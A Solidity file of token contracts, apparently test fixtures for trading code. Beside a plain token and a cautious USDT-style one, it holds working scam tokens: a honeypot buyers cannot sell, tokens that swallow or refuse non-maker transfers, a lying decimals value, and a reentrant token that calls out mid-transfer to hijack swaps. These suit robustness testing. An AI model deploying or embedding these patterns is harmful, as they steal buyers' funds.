// SPDX-License-Identifier: Apache-2.0
//
// Tokens that somebody made to take the money of whoever buys them, and one that is only careful.
pragma solidity ^0.8.20;

contract Coin {
    string public name = "Coin";
    string public symbol = "COIN";
    uint8 public decimals = 18;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;
    address internal immutable maker = msg.sender;

    constructor() {
        balanceOf[msg.sender] = 10 ** 30;
    }

    function approve(address spender, uint256 amount) public virtual returns (bool) {
        allowance[msg.sender][spender] = amount;
        return true;
    }

    function transfer(address to, uint256 amount) public virtual returns (bool) {
        move(msg.sender, to, amount);
        return true;
    }

    function transferFrom(address from, address to, uint256 amount) public virtual returns (bool) {
        allowance[from][msg.sender] -= amount;
        move(from, to, amount);
        return true;
    }

    function move(address from, address to, uint256 amount) internal virtual {
        balanceOf[from] -= amount;
        balanceOf[to] += amount;
    }
}

/// Allows nothing new while something old is allowed, as USDT does.
contract Careful is Coin {
    function approve(address spender, uint256 amount) public override returns (bool) {
        require(amount == 0 || allowance[msg.sender][spender] == 0, "Careful");
        return super.approve(spender, amount);
    }
}

/// Can be bought; sells nobody's but its maker's.
contract Trap is Coin {
    function transferFrom(address from, address to, uint256 amount) public override returns (bool) {
        require(from == maker, "Trap");
        return super.transferFrom(from, to, amount);
    }
}

/// Keeps all of what a pool pays.
contract Taker is Coin {
    function move(address from, address to, uint256 amount) internal override {
        balanceOf[from] -= amount;
        if (from == maker || to == maker) balanceOf[to] += amount;
    }
}

/// Moves for nobody but its maker.
contract Refuser is Coin {
    function move(address from, address to, uint256 amount) internal override {
        require(from == maker || to == maker, "Refuser");
        super.move(from, to, amount);
    }
}

/// Says to whoever asks that it holds much.
contract Liar is Taker {
    constructor() {
        decimals = 77;
    }
}

/// Calls back while it is moved, with what it was told, and goes on whatever comes of it: it buys
/// itself in the midst of somebody's swap, or has the router hand out what it holds.
contract Reentrant is Coin {
    address public target;
    bytes public said;
    uint256 public tried;
    uint256 public succeeded;
    bool private inside;

    function aim(address at, bytes calldata what) external {
        target = at;
        said = what;
    }

    receive() external payable {}

    function move(address from, address to, uint256 amount) internal override {
        super.move(from, to, amount);
        if (target == address(0) || from == maker || inside) return;
        inside = true;
        tried++;
        (bool success, ) = target.call{value: address(this).balance}(said);
        if (success) succeeded++;
        inside = false;
    }
}
